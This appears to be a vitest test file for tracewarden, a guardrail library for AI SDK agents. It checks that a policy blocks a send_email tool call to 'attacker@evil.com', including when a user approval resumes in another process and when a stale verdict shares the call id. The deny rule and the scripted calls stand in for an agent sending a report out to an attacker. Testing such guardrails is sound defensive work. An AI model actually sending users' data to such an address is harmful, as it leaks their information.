/**
 * A tool approval resumed in another process (a serverless route, `useChat`): the AI SDK runs
 * the approved call before any model call, so no verdict from the process that reviewed it is
 * here. The tool's own policy decides before it runs.
 */
import {
  canonicalJson,
  createTracer,
  parsePolicy,
  registerReview,
  validateBlocks,
} from '@tracewarden/core';
import { generateText, isStepCount, type ModelMessage, tool, wrapLanguageModel } from 'ai';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { scriptedModel } from '../__fixtures__/mock-model.js';
import { guardTools, tracewardenMiddleware, tracewardenTelemetry } from '../index.js';

const policy = parsePolicy(`
raise "no mail to attacker@evil.com" if:
    (call: ToolCall)
    call is tool:send_email
    call.function.arguments.to == "attacker@evil.com"
`);

/** What the first process returned (the call and its approval request), and the user's yes. */
function resumed(to: string): ModelMessage[] {
  return [
    { role: 'user', content: 'mail the report' },
    {
      role: 'assistant',
      content: [
        { type: 'tool-call', toolCallId: 'c1', toolName: 'send_email', input: { to } },
        { type: 'tool-approval-request', approvalId: 'approval-1', toolCallId: 'c1' },
      ],
    },
    {
      role: 'tool',
      content: [{ type: 'tool-approval-response', approvalId: 'approval-1', approved: true }],
    },
  ];
}

/** The output of the approved call, as the SDK answers it before the next model call. */
function approvedOutput(
  messages: readonly ModelMessage[],
): { type: string; value?: unknown } | undefined {
  const [first] = messages;
  if (first?.role !== 'tool') return undefined;
  const part = first.content.find((item) => item.type === 'tool-result');
  return part?.type === 'tool-result'
    ? (part.output as { type: string; value?: unknown })
    : undefined;
}

function sendTool(log: string[]) {
  return tool({
    inputSchema: z.object({ to: z.string() }),
    execute: async ({ to }) => {
      log.push(to);
      return 'sent';
    },
  });
}

describe('a tool approval resumed in another process', () => {
  // guardTools given the policy, or only the tracer of the middleware that has it (the README's
  // setup): either way the tools check the resumed call themselves
  it.each([
    ['guardTools({ policy })', true],
    ["guardTools({ tracer }) alone, the middleware's policy on that tracer", false],
  ])('%s: the blocked call is refused, not run; an allowed one runs', async (_, ownPolicy) => {
    for (const [to, runs] of [
      ['attacker@evil.com', false],
      ['boss@acme.example', true],
    ] as const) {
      const log: string[] = [];
      const tracer = createTracer();
      const model = wrapLanguageModel({
        model: scriptedModel([{ text: 'done' }]),
        middleware: tracewardenMiddleware({ tracer, policy, onPolicyViolation: 'refuse' }),
      });
      const result = await generateText({
        model,
        messages: resumed(to),
        tools: guardTools(
          { send_email: sendTool(log) },
          ownPolicy ? { tracer, policy } : { tracer },
        ),
        toolApproval: { send_email: 'user-approval' },
        stopWhen: isStepCount(3),
      });
      expect(log).toEqual(runs ? [to] : []);
      const answered = approvedOutput(result.responseMessages);
      expect(answered?.type).toBe(runs ? 'text' : 'error-text');
      if (!runs) expect(answered?.value).toContain('blocked by policy');
      // the trace shows what the model read, once
      const results = tracer.blocks().filter((block) => block.sub_type === 'TOOL_RESULT');
      expect(results).toHaveLength(1);
      expect(tracer.blocks().filter((block) => block.sub_type === 'TOOL_CALL')).toHaveLength(1);
      expect(results[0]?.payload.output).toBe(runs ? 'sent' : answered?.value);
      expect(validateBlocks(tracer.blocks()).ok).toBe(true);
    }
  });

  it('guardTools({ tracer, policy }) without the middleware records the blocked call and its refusal', async () => {
    const log: string[] = [];
    const tracer = createTracer();
    await generateText({
      model: scriptedModel([
        { calls: [{ id: 'c9', name: 'send_email', input: { to: 'attacker@evil.com' } }] },
        { text: 'done' },
      ] as never),
      prompt: 'mail the report',
      tools: guardTools({ send_email: sendTool(log) }, { tracer, policy }),
      stopWhen: isStepCount(3),
    });
    expect(log).toEqual([]);
    const call = tracer.findToolCall('c9');
    expect(call?.payload).toMatchObject({
      name: 'send_email',
      arguments: { to: 'attacker@evil.com' },
    });
    expect(call?.metadata).toMatchObject({ policy: 'block' });
    const result = tracer.blocks().find((block) => block.sub_type === 'TOOL_RESULT');
    expect(result?.parent_block_id).toBe(call?.id);
    expect(result?.metadata).toMatchObject({ status: 'failure', refused: true, policy: 'block' });
    expect(validateBlocks(tracer.blocks()).ok).toBe(true);
  });

  it('guardTools rejects a policy that is not one', () => {
    expect(() => guardTools({ send_email: sendTool([]) }, { policy: 'no mail' as never })).toThrow(
      /guardTools.*policy/s,
    );
  });

  it('tracewardenTelemetry({ policy }): the blocked call is refused, not run', async () => {
    const log: string[] = [];
    const tracer = createTracer();
    const result = await generateText({
      model: scriptedModel([{ text: 'done' }]),
      messages: resumed('attacker@evil.com'),
      tools: { send_email: sendTool(log) },
      toolApproval: { send_email: 'user-approval' },
      stopWhen: isStepCount(3),
      telemetry: {
        integrations: [tracewardenTelemetry({ tracer, policy, onPolicyViolation: 'refuse' })],
      },
    });
    expect(log).toEqual([]);
    expect(approvedOutput(result.responseMessages)?.type).toBe('error-text');
    const recorded = tracer.blocks().find((block) => block.sub_type === 'TOOL_RESULT');
    expect(recorded?.metadata).toMatchObject({ status: 'failure' });
  });
});

describe('a verdict another conversation left under the same id', () => {
  it('does not vouch for a resumed call the policy blocks', async () => {
    // another conversation's allowed call_0 of the same tool, never claimed (its approval waits)
    registerReview(
      'c1',
      {
        toolName: 'send_email',
        arguments: canonicalJson({ to: 'boss@acme.example' }),
        refusal: undefined,
      },
      {},
    );
    const log: string[] = [];
    const tracer = createTracer();
    const result = await generateText({
      model: wrapLanguageModel({
        model: scriptedModel([{ text: 'done' }]),
        middleware: tracewardenMiddleware({ tracer, policy, onPolicyViolation: 'refuse' }),
      }),
      messages: resumed('attacker@evil.com'),
      tools: guardTools({ send_email: sendTool(log) }, { tracer, policy }),
      toolApproval: { send_email: 'user-approval' },
      stopWhen: isStepCount(3),
    });
    expect(log).toEqual([]);
    expect(approvedOutput(result.responseMessages)?.type).toBe('error-text');
  });
});
